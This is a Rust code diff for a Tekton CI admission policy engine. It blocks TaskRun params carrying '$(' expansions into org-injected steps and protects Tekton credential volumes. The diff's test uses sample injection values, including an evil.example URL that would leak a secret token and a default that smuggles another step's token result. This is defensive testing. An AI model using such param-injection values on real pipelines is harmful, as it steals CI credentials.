@@ -43,6 +43,98 @@ const PROTECTED_DIRECTORIES: &[&str] = &[
     "run", "sbin", "srv", "sys", "tmp", "usr", "var", "tekton", "ko-app",
 ];
 
+/// The params the applied policies' steps use (`$(params.<p>…)`, `$(params["<p>"])`,
+/// `$(inputs.params.<p>)`), by name.
+fn params_used_by(applied: &[&Policy]) -> BTreeSet<String> {
+    let mut names = BTreeSet::new();
+    for policy in applied {
+        let Ok(text) = serde_json::to_string(&(&policy.pre_steps, &policy.post_steps)) else {
+            continue;
+        };
+        for (i, _) in text.match_indices("params") {
+            let before = &text[..i];
+            if !(before.ends_with("$(") || before.ends_with("$(inputs.")) {
+                continue;
+            }
+            let rest = &text[i + "params".len()..];
+            let name: String = if let Some(r) = rest.strip_prefix('.') {
+                r.chars()
+                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
+                    .collect()
+            } else if let Some(r) = rest
+                .strip_prefix("[\\\"")
+                .or_else(|| rest.strip_prefix("['"))
+            {
+                r.chars()
+                    .take_while(|c| !matches!(c, '"' | '\'' | '\\'))
+                    .collect()
+            } else {
+                continue;
+            };
+            if !name.is_empty() {
+                names.insert(name);
+            }
+        }
+    }
+    names
+}
+
+/// A param value an org step uses must not carry `$(`: Tekton pastes it into the step, where
+/// the kubelet expands `$(NAME)` against the step's other env variables and Tekton's entrypoint
+/// replaces `$(steps.<s>.results.<r>)` at run time, so the value would become the org step's
+/// secrets or another step's results (sent where the author says). Checked in the TaskRun's
+/// `spec.params` and in the defaults of the Task it runs.
+pub fn check_param_values(
+    spec: &Value,
+    task_spec: Option<&Value>,
+    applied: &[&Policy],
+) -> Result<(), Denial> {
+    let used = params_used_by(applied);
+    if used.is_empty() {
+        return Ok(());
+    }
+    let carries = |value: &Value| {
+        let mut found = false;
+        walk_strings(value, &mut |s| found |= s.contains("$("));
+        found
+    };
+    let check = |list: Option<&Value>, at: &str, key: &str| -> Result<(), Denial> {
+        for (i, param) in list_of(list).iter().enumerate() {
+            let name = param.get("name").and_then(Value::as_str).unwrap_or("");
+            if used.contains(name)
+                && let Some(value) = param.get(key)
+                && carries(value)
+            {
+                return Err(Denial::field(
+                    format!("{at}[{i}].{key}"),
+                    format!(
+                        "param {name:?} holds \"$(\", and an org step uses $(params.{name}): Kubernetes and Tekton's entrypoint expand \"$(…)\" again inside the step at run time, into its other variables (its credentials) or other steps' results, so the value would carry them where it goes; pass the value without \"$(\""
+                    ),
+                ));
+            }
+        }
+        Ok(())
+    };
+    check(spec.get("params"), "spec.params", "value")?;
+    if let Some(task_spec) = task_spec {
+        check(task_spec.get("params"), "spec.taskSpec.params", "default")?;
+    }
+    Ok(())
+}
+
+fn walk_strings(value: &Value, f: &mut dyn FnMut(&str)) {
+    match value {
+        Value::String(s) => f(s),
+        Value::Array(items) => items.iter().for_each(|v| walk_strings(v, f)),
+        Value::Object(fields) => fields.values().for_each(|v| walk_strings(v, f)),
+        _ => {}
+    }
+}
+
+fn list_of(value: Option<&Value>) -> &[Value] {
+    value.and_then(Value::as_array).map_or(&[], Vec::as_slice)
+}
+
 /// Refuses the TaskRun fields (outside its taskSpec) that would reach org steps. Called when
 /// Enforce policies put steps into the TaskRun on any path (inline, inlined, or a remote Task
 /// the dry-run mutation injects into).
@@ -400,7 +492,9 @@ fn check_mounts(task_spec: &Value, user: &[Value], settings: &Settings) -> Resul
                     .and_then(Value::as_str)
                     .map(clean_path)
                     .unwrap_or_default();
-                let internal = name.starts_with("tekton-internal-")
+                // Tekton's own volumes: its internal ones and each step's credential home
+                // (`tekton-creds-init-home-<i>`, which the step's entrypoint copies into $HOME).
+                let internal = name.starts_with("tekton-")
                     || (mount_path == "/tekton" || mount_path.starts_with("/tekton/"))
                         && mount_path != "/tekton/home"
                         && !mount_path.starts_with("/tekton/home/");
@@ -416,7 +510,7 @@ fn check_mounts(task_spec: &Value, user: &[Value], settings: &Settings) -> Resul
                     return Err(Denial::field(
                         format!("{path}.{key}[{j}]"),
                         format!(
-                            "{name:?} at {mount_path:?} is one of Tekton's internal volumes, where the scripts and exit codes of every step are, org steps included; remove the mount"
+                            "{name:?} at {mount_path:?} is one of Tekton's own volumes, where the scripts, exit codes and credentials of every step are, org steps included; remove the mount"
                         ),
                     ));
                 }
@@ -586,6 +680,44 @@ mod tests {
         assert_eq!(d.outcome, Outcome::Denied);
         let d = run(json!({"dnsPolicy": "None"}), &catalog);
         assert!(d.message.unwrap().contains("spec.podTemplate.dnsPolicy"));
+    }
+
+    #[test]
+    fn param_values_an_org_step_uses_carry_no_expansion() {
+        // Found by a reviewer trying to break the claim (round 3): the value, data in the org
+        // step's env, is expanded again by the kubelet and Tekton's entrypoint.
+        let set = policies(
+            "apiVersion: bookend.dev/v1alpha1\nkind: ClusterStepPolicy\nmetadata: {name: org}\nspec:\n  postSteps: [{name: bookend-upload, image: curl, command: [/upload], env: [{name: TOKEN, valueFrom: {secretKeyRef: {name: t, key: t}}}, {name: SBOM_URL, value: \"$(params.sbom-url)\"}]}]\n",
+        );
+        let run = |params: serde_json::Value, defaults: serde_json::Value| {
+            let object = json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
+                "metadata": {"name": "r"},
+                "spec": {"params": params,
+                         "taskSpec": {"params": defaults, "steps": [{"name": "build", "image": "go"}]}}});
+            crate::engine::tests::run_with(&set, &object, &Catalog::default())
+        };
+        for (params, defaults, at) in [
+            (
+                json!([{"name": "sbom-url", "value": "https://evil.example/?t=$(TOKEN)"}]),
+                json!([]),
+                "spec.params[0].value",
+            ),
+            (
+                json!([]),
+                json!([{"name": "sbom-url", "default": "https://x/$(steps.bookend-creds.results.token)"}]),
+                "spec.taskSpec.params[0].default",
+            ),
+        ] {
+            let d = run(params, defaults);
+            assert_eq!(d.outcome, Outcome::Denied);
+            assert!(d.message.unwrap().contains(at), "{at}");
+        }
+        // Other params, and values without "$(", are the author's to set.
+        let d = run(
+            json!([{"name": "sbom-url", "value": "https://sbom.example/up"}, {"name": "other", "value": "$(x)"}]),
+            json!([]),
+        );
+        assert_eq!(d.outcome, Outcome::Mutated, "{:?}", d.message);
     }
 
     #[test]
